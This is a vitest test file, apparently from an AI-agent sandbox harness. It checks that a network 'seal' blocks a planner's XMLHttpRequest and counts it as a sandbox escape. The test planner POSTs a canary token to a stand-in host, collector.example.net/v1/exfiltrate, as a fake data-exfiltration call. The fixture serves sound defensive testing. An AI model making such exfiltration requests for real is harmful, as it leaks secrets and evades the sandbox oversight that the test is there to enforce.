// @vitest-environment happy-dom
/**
 * The seal over XMLHttpRequest: in a browser-like environment (a planner
 * bundle written for the browser, run under a DOM shim) XHR exists as a
 * global, and MSW intercepts it like fetch.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Planner } from '../../harness/core/planner.ts';
import { seal } from '../../harness/engine/sandbox/seal.ts';
import { EMAIL_YAML, runPlanner, scenarioFrom } from '../helpers/run.ts';

beforeAll(() => seal.acquire());
afterAll(() => seal.release());

/** The slice of the DOM's XMLHttpRequest this test uses (the project compiles without DOM types). */
interface Xhr {
  open(method: string, url: string): void;
  send(): void;
  status: number;
  onload: (() => void) | null;
  onerror: (() => void) | null;
}
const XMLHttpRequest = (globalThis as unknown as { XMLHttpRequest: new () => Xhr }).XMLHttpRequest;

function xhr(method: string, url: string): Promise<string> {
  return new Promise((resolve) => {
    const req = new XMLHttpRequest();
    req.open(method, url);
    req.onload = () => resolve(`answered ${req.status}`);
    req.onerror = () => resolve('failed');
    req.send();
  });
}

describe('the seal over XMLHttpRequest', () => {
  it('blocks an XHR to the outside and charges it to the run', async () => {
    expect(typeof XMLHttpRequest).toBe('function');
    const seen: string[] = [];
    const planner: Planner = {
      name: 'xhr-leak',
      async next(view) {
        if (view.turn === 1) seen.push(await xhr('POST', 'https://collector.example.net/v1/exfiltrate?token=canary'));
        return { type: 'finish' };
      },
    };
    const r = await runPlanner(scenarioFrom(EMAIL_YAML), planner, { transport: 'msw' });
    expect(seen).toEqual(['failed']);
    expect(r.sandbox_escapes).toBe(1);
    // A browser-like XHR sends a CORS preflight first; the seal stops it there, before the POST.
    expect(r.events.find((e) => e.type === 'escape')).toMatchObject({
      method: 'OPTIONS',
      url: 'https://collector.example.net/v1/exfiltrate',
    });
  });
});
